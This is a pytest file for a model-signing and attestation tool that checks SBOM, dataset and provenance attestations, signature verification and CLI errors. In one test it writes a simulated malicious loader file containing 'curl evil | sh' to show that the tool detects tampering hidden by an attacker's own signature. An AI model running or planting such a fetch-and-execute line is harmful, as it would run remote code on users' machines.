from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from guard.attest.collect import AttestationInput, collect_facts, verify_directory_signature
from guard.attest.sign import attestation_statement, sign_attestation
from guard.attest.specs import CYCLONEDX_TYPE, DATASET_PROVENANCE_TYPE, SLSA_PROVENANCE_TYPE, load_spec_file
from guard.attest.subject import directory_subject
from guard.attest.verify import verify_attestation
from guard.cli import run
from guard.errors import AttestationError, BundleFormatError, SignatureMismatch, UsageError
from guard.signing import KeySigner, KeyVerifier, sign_model, sign_statement


def datasets_example() -> dict[str, Any]:
    example: dict[str, Any] = json.loads(json.dumps(load_spec_file("dataset-provenance/v1", "example.json")))
    return example


def slsa_example() -> dict[str, Any]:
    example: dict[str, Any] = json.loads(json.dumps(load_spec_file("slsa-provenance/v1", "example.json")))
    return example


def by_name(facts: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The first entry per name (an examined attestation comes before a "missing" entry)."""
    out: dict[str, dict[str, Any]] = {}
    for entry in facts["attestations"]:
        out.setdefault(entry["name"], entry)
    return out


def test_cli_sbom_attest_facts_end_to_end(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    private, public = keys
    sign_model(model_dir, KeySigner.from_file(private))
    bom, ds, slsa = tmp_path / "bom.json", tmp_path / "ds.json", tmp_path / "slsa.json"
    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
    ds.write_text(json.dumps(datasets_example()))
    slsa.write_text(json.dumps(slsa_example()))
    outs = []
    for flag, path in (("--sbom", bom), ("--datasets", ds), ("--provenance", slsa)):
        out = tmp_path / f"{path.stem}.att.json"
        assert run(["attest", str(model_dir), flag, str(path), "--key", str(private), "-o", str(out)]) == 0
        outs += ["--attestation", str(out)]
    capsys.readouterr()
    assert run(["facts", str(model_dir), "--key", str(public), "--json", *outs]) == 0
    facts = json.loads(capsys.readouterr().out)
    jsonschema.Draft202012Validator(load_spec_file("model-facts/v1")).validate(facts)
    assert facts["subject"]["kind"] == "directory"
    assert facts["signers"][0]["method"] == "key"
    assert {a["name"]: a["status"] for a in facts["attestations"]} == {
        "signature": "present",
        "sbom": "present",
        "datasets": "present",
        "provenance": "present",
    }
    assert facts["licenses"] == ["Apache-2.0"]
    assert facts["model"]["architecture"] == "LlamaForCausalLM"
    assert facts["model"]["parameterCount"] == 136
    assert facts["model"]["precision"] == "bf16"
    assert facts["provenance"]["builder"].startswith("https://github.com/example/ml-pipelines")
    assert facts["provenance"]["sourceRepository"] == "git+https://github.com/example/tiny-llama"
    assert facts["provenance"]["sourceRevision"] == "8d3a1f0c2b4e6a8c0e2f4a6c8e0a2c4e6f8a0b2c"
    datasets = {d["name"]: d for d in facts["datasets"]}
    assert datasets["slimpajama-627b"]["approved"] is True
    assert datasets["slimpajama-627b"]["approval"]["by"] == "data-governance@example.com"
    assert datasets["internal-support-chats"]["approved"] is False
    assert datasets["internal-support-chats"]["personalData"] is True
    assert datasets["wikitext"]["approved"] is False  # only known from the model card / SBOM
    # The table rendering works too.
    assert run(["facts", str(model_dir), "--key", str(public), *outs]) == 0
    assert "LlamaForCausalLM" in capsys.readouterr().out


def test_missing_kinds_are_reported(model_dir: Path, keys: tuple[Path, Path]) -> None:
    subject = directory_subject(model_dir)
    verifier = KeyVerifier.from_file(keys[1])
    facts = collect_facts(subject, verifier, [], signature=verify_directory_signature(model_dir, verifier))
    statuses = {a.name: (a.status, a.reason) for a in facts.attestations}
    assert statuses["signature"][0] == "missing"
    for kind in ("sbom", "provenance", "datasets"):
        assert statuses[kind] == ("missing", f"no {kind} attestation was supplied")
    assert facts.signers == () and facts.datasets == ()


def _assess(bundle: bytes, model_dir: Path, public: Path) -> dict[str, Any]:
    subject = directory_subject(model_dir)
    facts = collect_facts(subject, KeyVerifier.from_file(public), [AttestationInput(bundle, "x.json")])
    return facts.to_json()


def test_attestation_for_another_model_is_invalid(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path]
) -> None:
    other = tmp_path / "other-model"
    shutil.copytree(model_dir, other)
    (other / "extra.txt").write_text("different bytes")
    bundle = sign_attestation(
        directory_subject(other), DATASET_PROVENANCE_TYPE, datasets_example(), KeySigner.from_file(keys[0])
    )
    facts = _assess(bundle, model_dir, keys[1])
    entry = by_name(facts)["datasets"]
    assert entry["status"] == "invalid"
    assert [a["status"] for a in facts["attestations"] if a["name"] == "datasets"] == ["invalid", "missing"]
    assert "another model" in entry["reason"] and directory_subject(model_dir).sha256 in entry["reason"]
    assert facts["datasets"] == []  # contributes nothing
    with pytest.raises(AttestationError, match="another model"):
        verify_attestation(bundle, KeyVerifier.from_file(keys[1]), directory_subject(model_dir))


def test_attestation_signed_by_an_untrusted_key_is_invalid(
    model_dir: Path, keys: tuple[Path, Path], other_keys: tuple[Path, Path]
) -> None:
    bundle = sign_attestation(
        directory_subject(model_dir),
        DATASET_PROVENANCE_TYPE,
        datasets_example(),
        KeySigner.from_file(other_keys[0]),
    )
    facts = _assess(bundle, model_dir, keys[1])
    entry = by_name(facts)["datasets"]
    assert entry["status"] == "invalid" and entry["signer"] is None
    assert facts["datasets"] == []
    with pytest.raises(SignatureMismatch):
        verify_attestation(bundle, KeyVerifier.from_file(keys[1]), directory_subject(model_dir))


def _signed_raw(model_dir: Path, private: Path, predicate_type: str, predicate: dict[str, Any]) -> bytes:
    """Sign without guard attest's pre-check, as a careless or hostile producer would."""
    statement = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": directory_subject(model_dir).as_statement_subject(),
        "predicateType": predicate_type,
        "predicate": predicate,
    }
    return sign_statement(statement, KeySigner.from_file(private))


@pytest.mark.parametrize(
    ("predicate_type", "mutate", "expected"),
    [
        (
            DATASET_PROVENANCE_TYPE,
            lambda p: p["datasets"][0].pop("licenses"),
            r"\$\.datasets\[0\].*'licenses' is a required",
        ),
        (
            DATASET_PROVENANCE_TYPE,
            lambda p: p["datasets"][1].pop("consentBasis"),
            r"\$\.datasets\[1\].*consentBasis",
        ),
        (
            DATASET_PROVENANCE_TYPE,
            lambda p: p["datasets"][0].update(relation="memorized"),
            r"\$\.datasets\[0\]\.relation",
        ),
        (
            SLSA_PROVENANCE_TYPE,
            lambda p: p["runDetails"]["builder"].pop("id"),
            r"\$\.runDetails\.builder.*'id' is a required",
        ),
        (CYCLONEDX_TYPE, lambda p: p.update(bomFormat="SPDX"), r"bomFormat: expected 'CycloneDX'"),
        ("https://example.com/unknown/v1", lambda p: None, "not one guard reads"),
    ],
)
def test_predicate_failing_its_schema_is_invalid(
    model_dir: Path, keys: tuple[Path, Path], predicate_type: str, mutate: Any, expected: str
) -> None:
    predicate = slsa_example() if predicate_type == SLSA_PROVENANCE_TYPE else datasets_example()
    if predicate_type == CYCLONEDX_TYPE:
        predicate = {"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1}
    mutate(predicate)
    bundle = _signed_raw(model_dir, keys[0], predicate_type, predicate)
    facts = _assess(bundle, model_dir, keys[1])
    (entry,) = [a for a in facts["attestations"] if a["source"] == "x.json"]
    assert entry["status"] == "invalid"
    assert pytest.importorskip("re").search(expected, entry["reason"]), entry["reason"]
    assert facts["datasets"] == [] and facts["provenance"]["builder"] is None


def test_not_a_bundle_is_invalid_not_ignored(model_dir: Path, keys: tuple[Path, Path]) -> None:
    facts = _assess(b'{"bomFormat": "CycloneDX"}', model_dir, keys[1])
    (entry,) = [a for a in facts["attestations"] if a["source"] == "x.json"]
    assert entry["status"] == "invalid" and "mediaType" in entry["reason"]


def test_attest_refuses_to_sign_an_invalid_predicate(model_dir: Path) -> None:
    predicate = datasets_example()
    predicate["datasets"][0]["digests"] = {}
    with pytest.raises(UsageError, match=r"refusing to sign.*\$\.datasets\[0\]\.digests"):
        attestation_statement(directory_subject(model_dir), DATASET_PROVENANCE_TYPE, predicate)


def test_attest_cli_usage_errors(model_dir: Path, tmp_path: Path, keys: tuple[Path, Path]) -> None:
    out = str(tmp_path / "a.json")
    assert run(["attest", str(model_dir), "--key", str(keys[0]), "-o", out]) == 2
    assert run(["attest", str(model_dir), "--predicate-type", "x", "--key", str(keys[0]), "-o", out]) == 2
    bad = tmp_path / "bad.json"
    bad.write_text("[1]")
    assert run(["attest", str(model_dir), "--datasets", str(bad), "--key", str(keys[0]), "-o", out]) == 2
    assert not Path(out).exists()


def test_spdx3_example_extracts_model_and_datasets(model_dir: Path, keys: tuple[Path, Path]) -> None:
    from guard.attest.specs import SPDX3_TYPE

    predicate = json.loads(json.dumps(load_spec_file("spdx3-ai/v3", "example.json")))
    bundle = sign_attestation(
        directory_subject(model_dir), SPDX3_TYPE, predicate, KeySigner.from_file(keys[0])
    )
    facts = _assess(bundle, model_dir, keys[1])
    assert by_name(facts)["spdx"]["status"] == "present"
    assert facts["model"]["architecture"] == "LlamaForCausalLM"
    assert facts["licenses"] == ["Apache-2.0"]
    assert facts["energy"]["trainingKWh"] == 1520.5
    (ds,) = facts["datasets"]
    assert (
        ds["name"] == "slimpajama-627b" and ds["personalData"] is False and ds["licenses"] == ["Apache-2.0"]
    )


def test_dataset_provenance_wins_over_the_sbom_for_the_same_dataset() -> None:
    from guard.attest.collect import _merge_datasets
    from guard.attest.facts import DatasetFacts

    approved = DatasetFacts(name="d", uri="s3://x", approved=True, personal_data=False)
    from_card = DatasetFacts(name="d")
    from_bom = DatasetFacts(name="d", uri="s3://x", personal_data=True)
    other = DatasetFacts(name="d", uri="s3://y")
    assert _merge_datasets([(1, from_bom), (0, approved), (1, from_card), (1, other)]) == (approved, other)


def test_attest_binary_predicate_or_directory_output_is_a_usage_error(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    binary = tmp_path / "predicate.json"
    binary.write_bytes(b"\xee\xff\x00binary")
    out = str(tmp_path / "a.json")
    for argv in (
        ["--sbom", str(binary)],
        ["--predicate-type", "https://example.com/p", "--predicate", str(binary)],
    ):
        assert run(["attest", str(model_dir), *argv, "--key", str(keys[0]), "-o", out]) == 2
        assert "expected a UTF-8 JSON predicate, found binary data" in capsys.readouterr().err
    good = tmp_path / "p.json"
    good.write_text("{}")
    argv = ["--predicate-type", "https://example.com/p", "--predicate", str(good)]
    assert run(["attest", str(model_dir), *argv, "--key", str(keys[0]), "-o", str(tmp_path)]) == 2
    assert "it is a directory; expected a file path" in capsys.readouterr().err
    assert not (tmp_path / "a.json").exists()


def test_facts_signature_option_naming_no_file_is_a_usage_error(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    # a typo in --signature is exit 2, not "signature missing" with exit 0
    sign_model(model_dir, KeySigner.from_file(keys[0]))
    base = ["facts", str(model_dir), "--key", str(keys[1])]
    assert run([*base, "--signature", str(tmp_path / "typo.sig")]) == 2
    assert "expected a signature file, found nothing there" in capsys.readouterr().err
    assert run([*base, "--signature", str(tmp_path)]) == 2
    assert "expected a signature file, found a directory" in capsys.readouterr().err
    assert run([*base, "--signature", str(model_dir / "model.sig")]) == 0


def test_attest_help_describes_trust_config_for_signing(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    assert run(["attest", "--help"]) == 0
    out = capsys.readouterr().out
    assert "ClientTrustConfig JSON for a private instance" in out
    assert "TrustedRoot for verifying" not in out  # attest signs; a TrustedRoot cannot sign


def test_registry_options_for_a_directory_and_two_stdin_readers_are_usage_errors(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    sign_model(model_dir, KeySigner.from_file(keys[0]))
    assert run(["facts", str(model_dir), "--key", str(keys[1]), "--insecure"]) == 2
    assert "apply to OCI targets" in capsys.readouterr().err
    bom = tmp_path / "bom.json"
    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
    out = tmp_path / "bom.att.json"
    base = ["attest", str(model_dir), "--sbom", str(bom), "--key", str(keys[0]), "-o", str(out)]
    assert run([*base, "--docker-config", str(tmp_path / "config.json")]) == 2
    assert "apply to OCI targets" in capsys.readouterr().err
    assert run([*base, "--passphrase-stdin", "--username", "u", "--password-stdin"]) == 2
    assert "both read standard input" in capsys.readouterr().err
    assert not out.exists()


def test_outputs_inside_the_model_directory_are_refused(
    model_dir: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    # a file written into the model changes its digest: the attestation would name another model
    sign_model(model_dir, KeySigner.from_file(keys[0]))
    bom = model_dir.parent / "bom.json"
    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
    inside = model_dir / "bom.att.json"
    assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(keys[0]), "-o", str(inside)]) == 2
    assert "write the attestation outside the model directory" in capsys.readouterr().err
    assert run(["sbom", str(model_dir), "-o", str(model_dir / "bom.json")]) == 2  # signed: breaks model.sig
    assert "it would break model.sig" in capsys.readouterr().err
    assert not inside.exists()
    assert not (model_dir / "bom.json").exists()
    assert run(["verify", str(model_dir), "--key", str(keys[1])]) == 0


def test_nan_or_infinity_in_a_predicate_is_refused_not_signed(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    # Python's json reads and writes NaN / Infinity; no JSON reader accepts the signed payload
    predicate = tmp_path / "p.json"
    predicate.write_text('{"x": NaN, "y": Infinity}')
    out = tmp_path / "a.json"
    argv = ["--predicate-type", "https://example.com/p", "--predicate", str(predicate)]
    assert run(["attest", str(model_dir), *argv, "--key", str(keys[0]), "-o", str(out)]) == 2
    assert "NaN is not JSON" in capsys.readouterr().err
    assert not out.exists()
    subject = directory_subject(model_dir)
    with pytest.raises(UsageError, match="a number JSON cannot represent"):
        sign_attestation(subject, "https://example.com/p", {"x": float("nan")}, KeySigner.from_file(keys[0]))


def test_a_huge_file_given_as_an_attestation_is_refused_unread(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    sign_model(model_dir, KeySigner.from_file(keys[0]))
    weights = tmp_path / "weights.bin"
    with weights.open("wb") as f:
        f.truncate((64 << 20) + 1)
    assert run(["facts", str(model_dir), "--key", str(keys[1]), "--attestation", str(weights)]) == 2
    assert f"attestation {weights} is 67108865 bytes: expected a Sigstore bundle" in capsys.readouterr().err


def test_outputs_never_replace_another_kind_of_file(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    # `guard sbom -o MODEL/config.json` (before signing) replaced the model's config; `guard attest
    # --sbom bom.json -o bom.json` replaced its own input
    config = (model_dir / "config.json").read_bytes()
    assert run(["sbom", str(model_dir), "-o", str(model_dir / "config.json")]) == 2
    assert "an existing file that is not a CycloneDX BOM" in capsys.readouterr().err
    assert (model_dir / "config.json").read_bytes() == config
    bom = tmp_path / "bom.json"
    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0  # a previous BOM is replaced
    before = bom.read_bytes()
    assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(keys[0]), "-o", str(bom)]) == 2
    assert "an existing file that is not a Sigstore bundle" in capsys.readouterr().err
    assert bom.read_bytes() == before
    out = tmp_path / "bom.att.json"
    for _ in range(2):  # a previous bundle is replaced
        assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(keys[0]), "-o", str(out)]) == 0


def test_facts_hash_the_model_and_never_read_the_digest_cache(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`guard facts` verifies, as `guard verify` does: it hashes the bytes. A digest cache entry
    whose key still matches a file changed since (a network or FUSE filesystem may report the old
    times; here the entry is written under the new ones) must not make an attestation of the old
    bytes verify, nor a `--require` gate pass."""
    import hashlib
    import os

    from guard.signing.cache import DigestCache, cache_key

    monkeypatch.delenv("GUARD_DIGEST_CACHE")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    private, public = keys
    required = _signed_with_sbom(model_dir, tmp_path, private, public)
    weights = model_dir / "model.safetensors"
    old = hashlib.sha256(weights.read_bytes()).hexdigest()
    weights.write_bytes(weights.read_bytes()[:-1] + b"\x01")  # same size, other bytes
    with DigestCache.default() as cache:
        cache.put_many([(cache_key(os.path.realpath(weights), os.stat(weights), "sha256", 0, None), old)])
        # the entry is a hit: through the cache, the subject is the old bytes'
        assert directory_subject(model_dir, cache=cache).sha256 != directory_subject(model_dir).sha256
    assert run(required) == 1


@pytest.mark.parametrize("case", ["valid", "tampered", "another key", "junk signature", "no signature"])
def test_directory_facts_hash_once_and_say_what_the_two_steps_say(
    model_dir: Path,
    keys: tuple[Path, Path],
    other_keys: tuple[Path, Path],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    case: str,
) -> None:
    """A directory holding its model.sig is hashed once for the subject and the signature's check
    (each used to hash it, with the same serialization): the facts are those of the two steps,
    whatever the signature says."""
    from guard.attest.collect import directory_facts

    sign_model(model_dir, KeySigner.from_file(keys[0]))
    public = keys[1]
    if case == "tampered":
        (model_dir / "config.json").write_text('{"architectures": ["Other"]}')
    elif case == "another key":
        public = other_keys[1]
    elif case == "junk signature":
        (model_dir / "model.sig").write_text("not a bundle")
    elif case == "no signature":
        (model_dir / "model.sig").unlink()
    verifier = KeyVerifier.from_file(public)
    if case == "junk signature":  # the subject cannot be hashed as model.sig says: both raise
        with pytest.raises(BundleFormatError) as before:
            directory_subject(model_dir)
        with pytest.raises(BundleFormatError) as now:
            directory_facts(model_dir, verifier)
        assert str(now.value) == str(before.value)
        return
    expected = collect_facts(
        directory_subject(model_dir), verifier, [], signature=verify_directory_signature(model_dir, verifier)
    )
    calls = _count_hashings(monkeypatch)
    caplog.clear()
    assert directory_facts(model_dir, verifier) == expected
    assert len(calls) == 1  # the two steps: 2 with a signature that verifies
    warned = [r.getMessage() for r in caplog.records if "no longer matches" in r.getMessage()]
    assert len(warned) == (1 if case == "tampered" else 0), warned  # as directory_subject warns


@pytest.mark.parametrize(
    ("case", "hashings"),
    [
        ("outside", 1),
        ("outside, tampered", 1),
        ("outside, another key", 1),
        ("outside, blake3", 2),  # the subject is hashed with the default serialization
        ("outside, model.sig in the directory too", 2),
        ("inside, another name", 2),  # the check leaves it out, the subject does not
        ("outside, junk", 1),
        ("outside, missing", 1),
    ],
)
def test_directory_facts_with_a_signature_elsewhere_hash_once_where_the_two_steps_agree(
    model_dir: Path,
    keys: tuple[Path, Path],
    other_keys: tuple[Path, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    case: str,
    hashings: int,
) -> None:
    """`guard facts --signature FILE`: with FILE outside a directory holding no model.sig and the
    default serialization, the subject and the check hash the same files the same way, so once;
    in every other case both are hashed. The facts are always those of the two steps."""
    from guard.attest.collect import directory_facts
    from guard.signing import Serialization

    signature = model_dir / "signatures" / "m.sig" if case.startswith("inside") else tmp_path / "m.sig"
    signature.parent.mkdir(exist_ok=True)
    serialization = Serialization(hash_type="blake3") if "blake3" in case else None
    signer = KeySigner.from_file(keys[0])
    sign_model(model_dir, signer, serialization=serialization, signature_path=signature)
    if "model.sig" in case:
        sign_model(model_dir, signer)
    public = other_keys[1] if "another key" in case else keys[1]
    if "tampered" in case:
        (model_dir / "config.json").write_text('{"architectures": ["Other"]}')
    elif "junk" in case:
        signature.write_text("not a bundle")
    elif "missing" in case:
        signature.unlink()
    verifier = KeyVerifier.from_file(public)
    expected = collect_facts(
        directory_subject(model_dir),
        verifier,
        [],
        signature=verify_directory_signature(model_dir, verifier, signature),
    )
    calls = _count_hashings(monkeypatch)
    caplog.clear()
    assert directory_facts(model_dir, verifier, signature=signature) == expected
    assert len(calls) == hashings
    assert not [r for r in caplog.records if "no longer matches" in r.getMessage()]


def test_an_unverified_model_sig_cannot_hide_a_file_from_the_attestations_subject(
    model_dir: Path, tmp_path: Path, keys: tuple[Path, Path], other_keys: tuple[Path, Path]
) -> None:
    """The subject of a directory whose model.sig does not verify is hashed with the serialization
    that model.sig states, unverified: its ignore paths must not leave out a file. Otherwise code
    added beside the weights, with a model.sig of the attacker's own listing it as ignored, keeps
    every attestation of the clean model "present" and `--require` passes."""
    from guard.signing import Serialization

    private, public = keys
    required = _signed_with_sbom(model_dir, tmp_path, private, public)
    # the attacker adds code a loader runs, and a model.sig of their own key that ignores it
    (model_dir / "modeling_evil.py").write_text("import os; os.system('curl evil | sh')\n")
    sign_model(
        model_dir,
        KeySigner.from_file(other_keys[0]),
        serialization=Serialization(ignore_paths=(".git", "modeling_evil.py")),
    )
    verified = directory_subject(model_dir, verifying=True).manifest
    assert verified is not None and "modeling_evil.py" in {r.name for r in verified.resources}
    assert run(required) == 1
    # the signer's side honours its own ignore paths, as before
    signer_side = directory_subject(model_dir).manifest
    assert signer_side is not None and "modeling_evil.py" not in {r.name for r in signer_side.resources}


def _count_hashings(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """The directories ``hash_model`` is called on from now, wherever it is imported from."""
    from guard.signing import hashing

    calls: list[Path] = []
    real = hashing.hash_model

    def counted(model: Path, *args: Any, **kw: Any) -> Any:
        calls.append(model)
        return real(model, *args, **kw)

    for where in (
        "guard.signing.hash_model",
        "guard.attest.subject.hash_model",
        "guard.signing.model.hash_model",
    ):
        monkeypatch.setattr(where, counted)
    monkeypatch.setattr(hashing, "hash_model", counted)
    return calls


def _signed_with_sbom(model_dir: Path, tmp_path: Path, private: Path, public: Path) -> list[str]:
    """Sign ``model_dir``, attest its SBOM; the `guard facts --require sbom` command line, which
    passes now."""
    sign_model(model_dir, KeySigner.from_file(private))
    bom, att = tmp_path / "bom.json", tmp_path / "bom.att.json"
    assert run(["sbom", str(model_dir), "-o", str(bom)]) == 0
    assert run(["attest", str(model_dir), "--sbom", str(bom), "--key", str(private), "-o", str(att)]) == 0
    required = ["facts", str(model_dir), "--key", str(public), "--attestation", str(att), "--require", "sbom"]
    assert run(required) == 0
    return required
